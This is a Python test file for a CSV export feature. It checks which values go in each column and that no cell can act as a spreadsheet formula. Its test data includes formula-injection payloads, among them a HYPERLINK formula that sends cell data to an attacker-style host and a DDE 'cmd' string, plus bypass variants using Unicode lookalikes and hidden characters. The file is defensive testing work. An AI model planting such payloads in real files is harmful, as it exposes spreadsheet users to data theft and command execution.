"""Entries as a table: what stands in which cell, and that no cell of the record can act as a formula."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oversight_viewer.domain.annotations import EntryNotes, EventId, Note, NoteId, NoteVersion
from oversight_viewer.domain.cards import Card
from oversight_viewer.domain.dates import PartialDate
from oversight_viewer.domain.directory import Directory
from oversight_viewer.domain.errors import KnownError
from oversight_viewer.domain.keys import Key
from oversight_viewer.domain.kinds import Lane
from oversight_viewer.domain.marks import MarkScheme
from oversight_viewer.domain.records import Committee, Entry, EntryId, Person, Source
from oversight_viewer.domain.requests import AnswerStatus, RequestState
from oversight_viewer.memo.table import TableOptions, heads, row_of, safe_cell, write_table

OPTIONS = TableOptions(date(2024, 11, 26), "1 of 3 records about Example Freight Co.")
DIRECTORY = Directory({"XCOM01": Committee("XCOM01", "Subcommittee on Freight and Ports", "Freight and Ports", "XCOM")})
SCHEME = MarkScheme()
ENTRY = Entry(
    EntryId("letter"),
    Lane.ACTION,
    "document_request",
    "Vendor list",
    "committee-confidential",
    PartialDate.parse("2024-09"),
    people=(Person("A. Example", "chair", "Example Commerce Committee"), Person("B. Example")),
    inquiry="Port crane software",
    summary="Asks for five things.\nBy September.",
    sources=(Source("Letter", "Example Wire", "https://wire.example/1"), Source(url="https://wire.example/2")),
    tags=("servers", "crane vendors"),
    extra={"respondent_mark": "Not for release"},
)
CARD = Card(
    Key(5),
    ENTRY.id,
    ENTRY.lane,
    ENTRY.kind,
    ENTRY.title,
    ENTRY.date,
    ENTRY.mark,
    committees=("XCOM01", "XUNKNOWN"),
    companies=("Example Freight Co.", "Amazon"),
    inquiry=ENTRY.inquiry,
    respondent_mark=ENTRY.respondent_mark,
    requests=(
        RequestState("1", AnswerStatus.FULL, date(2024, 9, 20)),
        RequestState("2", AnswerStatus.PARTIAL, date(2024, 11, 14)),
    ),
)


def note(text: str, tags: tuple[str, ...] = ()) -> Note:
    at = datetime(2024, 11, 20, tzinfo=UTC)
    return Note(NoteId(text), ENTRY.id, (NoteVersion(EventId(text), text, tags, "staff", at, 1),), at)


NOTES = EntryNotes(ENTRY.id, (note("=first", ("call",)), note("second")), tags=("urgent",))


def cells(card: Card = CARD, entry: Entry = ENTRY, options: TableOptions = OPTIONS) -> dict[str, object]:
    return dict(zip(heads(options), row_of(card, entry, NOTES, DIRECTORY, SCHEME, options), strict=True))


def test_each_cell_holds_what_its_column_says() -> None:
    assert cells() == {
        "date": "2024-09",
        "lane": "action",
        "kind": "Document request",
        "title": "Vendor list",
        "committees": "Subcommittee on Freight and Ports; XUNKNOWN",
        "companies": "Example Freight Co.; Amazon",
        "people": "A. Example, chair, Example Commerce Committee; B. Example",
        "inquiry": "Port crane software",
        "mark": "Committee confidential",
        "company's mark": "Not for release",
        "requests": 2,
        "answered": 1,
        "days overdue as of 2024-11-26": 12,
        "summary": "Asks for five things.\nBy September.",
        "sources": "Letter, Example Wire https://wire.example/1; https://wire.example/2",
        "tags": "servers; crane vendors",
        "id": "letter",
        "filter": "1 of 3 records about Example Freight Co.",
    }


def test_what_is_missing_is_an_empty_cell() -> None:
    bare = Entry(EntryId("x"), Lane.MEETING, "meeting", "A meeting", "public")
    row = cells(Card(Key(1), bare.id, bare.lane, bare.kind, bare.title, None, bare.mark), bare)
    filled = {name for name, value in row.items() if value != ""}
    assert filled == {"lane", "kind", "title", "mark", "id", "filter"}


def test_notes_stand_in_it_only_if_that_is_chosen() -> None:
    assert "my notes" not in cells()
    row = cells(options=replace(OPTIONS, include_notes=True))
    assert list(row)[-3:] == ["my notes", "my tags", "filter"]
    assert row["my notes"] == "'=first\n\nsecond"
    assert row["my tags"] == "call; urgent"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Letter to Amazon", "Letter to Amazon"),
        ("", ""),
        ("a=b+c-d@e", "a=b+c-d@e"),
        ("'quoted'", "'quoted'"),
        ("42", "42"),
        # what OWASP names
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\ttext", "'\ttext"),
        ("\r=1", "'\n=1"),
        ("\r\ntext", "'\ntext"),
        ("\ntext", "'\ntext"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        # after what is passed over, or not seen
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\u3000@x", "'\u3000@x"),
        ("\u200b=1", "'\u200b=1"),
        ("\u200e \u2060=1", "'\u200e \u2060=1"),
        # what acts instead of showing something is taken out first
        ("\ufeff=1", "'=1"),
        ("\0=1", "'=1"),
        ("\x1b=1", "'=1"),
        ("\u202e=1", "'=1"),
        ("half \ud83d", "half \N{REPLACEMENT CHARACTER}"),
    ],
)
def test_no_cell_is_a_formula(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


@given(text=st.text(st.characters(exclude_categories=[])))
def test_any_text_becomes_a_cell_that_is_none(text: str) -> None:
    cell = safe_cell(text)
    cell.encode("utf-8")
    assert not cell.startswith(("\t", "\n", "\r"))
    assert not cell.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def test_each_value_of_several_is_safe_by_itself() -> None:
    hostile = replace(
        ENTRY,
        tags=("servers", "=1+1", "@x"),
        people=(Person("-A"), Person("=B", "=role")),
        sources=(Source("+title", None, "=url"),),
    )
    row = cells(replace(CARD, companies=("Amazon", "=cmd")), hostile)
    assert row["companies"] == "Amazon; '=cmd"
    assert row["tags"] == "servers; '=1+1; '@x"
    assert row["people"] == "'-A; '=B, =role"
    assert row["sources"] == "'+title =url"


@pytest.mark.parametrize("field", ["title", "kind", "mark", "inquiry", "id", "respondent_mark"])
def test_every_text_of_a_card_is_made_safe(field: str) -> None:
    row = cells(replace(CARD, **{field: "=1+1"}))
    assert not any(str(value).startswith("=") for value in row.values())
    assert any(str(value).startswith("'=1+1") for value in row.values())


def test_the_sentence_is_made_safe_too() -> None:
    assert cells(options=replace(OPTIONS, sentence="=1"))["filter"] == "'=1"


def test_the_file_is_what_spreadsheets_read(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    titles = ["Ünïcode – “quotes”", 'He said "no", twice', "two\nlines", "=1"]
    records = [(replace(CARD, title=title), ENTRY) for title in titles]
    count = write_table(iter(records), {}, path, OPTIONS, directory=DIRECTORY, scheme=SCHEME)
    assert count == 4
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["title"] for row in rows] == ["Ünïcode – “quotes”", 'He said "no", twice', "two\nlines", "'=1"]
    assert {row["filter"] for row in rows} == {OPTIONS.sentence}
    # Texts are quoted and numbers are not.
    assert b',2,1,12,"Asks' in data


def test_a_file_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    def broken() -> object:
        yield CARD, ENTRY
        raise KnownError("The library is damaged.")

    path = tmp_path / "out.csv"
    path.write_text("before")
    with pytest.raises(KnownError):
        write_table(broken(), {}, path, OPTIONS, directory=DIRECTORY, scheme=SCHEME)  # type: ignore[arg-type]
    assert path.read_text() == "before"
    assert list(tmp_path.iterdir()) == [path]
